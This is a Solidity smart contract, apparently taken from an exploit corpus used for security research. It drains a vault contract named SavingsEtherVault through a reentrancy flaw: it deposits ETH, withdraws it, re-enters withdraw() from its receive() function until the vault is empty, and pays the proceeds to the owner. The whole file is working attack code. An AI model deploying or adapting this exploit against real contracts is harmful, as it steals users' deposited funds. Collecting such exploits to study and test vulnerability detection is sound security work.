// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// @notice The part of SavingsEtherVault the attacker calls.
interface ISavingsEtherVault {
    function deposit() external payable;

    function withdraw(uint256 amount) external;
}

/// @title SavingsVaultReentrancyAttacker
/// @notice Drains SavingsEtherVault through its reentrancy flaw in one
///         transaction: deposit msg.value, withdraw it, and from receive()
///         withdraw the same amount again while the vault still holds ETH.
///         Everything collected goes to the owner. For Warden's exploit
///         corpus only.
contract SavingsVaultReentrancyAttacker is Ownable {
    ISavingsEtherVault public immutable vault;
    /// @dev The amount re-withdrawn per nested call (the deposit).
    uint256 private chunk;

    event Drained(uint256 deposited, uint256 collected, uint256 reentries);

    error PayoutFailed();

    uint256 private reentries;

    constructor(address vault_) Ownable(msg.sender) {
        vault = ISavingsEtherVault(vault_);
    }

    /// @notice Runs the attack with msg.value as the seed deposit.
    function attack() external payable onlyOwner {
        chunk = msg.value;
        reentries = 0;
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
        uint256 collected = address(this).balance;
        emit Drained(msg.value, collected, reentries);
        (bool ok,) = payable(owner()).call{value: collected}("");
        if (!ok) revert PayoutFailed();
    }

    receive() external payable {
        if (msg.sender != address(vault)) return;
        uint256 left = address(vault).balance;
        if (left == 0) return;
        reentries++;
        vault.withdraw(left < chunk ? left : chunk);
    }
}
